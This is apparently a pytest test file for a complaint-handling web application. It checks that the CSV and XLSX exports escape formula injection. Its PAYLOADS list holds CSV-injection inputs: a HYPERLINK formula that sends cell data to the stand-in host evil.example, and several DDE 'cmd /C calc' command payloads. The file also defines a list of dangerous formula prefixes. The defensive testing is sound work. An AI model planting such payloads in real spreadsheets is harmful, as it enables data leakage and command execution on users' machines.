"""Every CSV and XLSX the product writes carries no live formula from user input (OWASP CSV injection).

Exports that exist: the staff case list (CSV), the transparency report (CSV and XLSX; the same files
are the monthly report, downloaded by staff and published on /transparansi).
"""
import csv
import io

from openpyxl import load_workbook

from app.clock import utcnow
from app.extensions import db
from app import reports
from app.workflow import lifecycle
from app.workflow.calendar import current_calendar

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def assert_no_formula(cells, where):
    for value in cells:
        if isinstance(value, str) and value not in ("-", "+"):
            assert not value.startswith(DANGEROUS), (where, value)


def csv_cells(content):
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    # the staff export uses ';' (Excel with Indonesian settings), the reports ','
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def xlsx_cells(content):
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def test_every_export_neutralises_formulas(app, client, login_as, make_case, world):
    from app.models import Category

    category = Category(name=PAYLOADS[3], active=True)  # staff-typed names are text too
    db.session.add(category)
    db.session.flush()
    cases = []
    for index, payload in enumerate(PAYLOADS):
        case = make_case(title=f"{payload} judul", status="received")
        case.title, case.district = payload, payload  # a citizen's own words, as typed
        case.category_id = category.id
        cases.append(case)
    db.session.commit()
    from app.workflow import rollups

    rollups.rebuild()  # the category was set outside the lifecycle: recompute the figures
    db.session.commit()
    for case in cases[:3]:
        lifecycle.perform("dispose", case.id, world.user("koordinator"), agency=world.agency("DINKES"))
    db.session.commit()
    try:
        # staff export of the case list
        staff = login_as("koordinator")
        response = staff.get("/complaintview/export.csv")
        assert response.status_code == 200
        cells = csv_cells(response.get_data())
        assert any(cell == "'" + PAYLOADS[0] for cell in cells)  # kept, as text
        assert_no_formula(cells, "staff csv")

        # the transparency report of this month: draft, published, downloaded by staff and the public
        local = current_calendar().to_local(utcnow())
        period = f"{local.year}-{local.month:02d}"
        report = reports.build(period)
        reports.publish(report.id)
        db.session.commit()
        csv_files = [report.csv_file, client.get(f"/transparansi/{period}.csv").get_data(),
                     staff.get(f"/transparencyreportview/download/{report.id}/csv").get_data()]
        xlsx_files = [report.xlsx_file, client.get(f"/transparansi/{period}.xlsx").get_data(),
                      staff.get(f"/transparencyreportview/download/{report.id}/xlsx").get_data()]
        for content in csv_files:
            cells = csv_cells(content)
            assert "'" + PAYLOADS[3] in cells  # the category breakdown carries the typed name, as text
            assert_no_formula(cells, "transparency csv")
        for content in xlsx_files:
            cells = xlsx_cells(content)
            assert "'" + PAYLOADS[3] in cells
            assert_no_formula(cells, "transparency xlsx")
    finally:
        from sqlalchemy import delete

        from app.models import TransparencyReport

        db.session.rollback()
        db.session.execute(delete(TransparencyReport))
        db.session.commit()
        from tests.conftest import _cleanup

        _cleanup()  # the cases first: they point at the category
        db.session.execute(delete(Category).where(Category.id == category.id))
        db.session.commit()
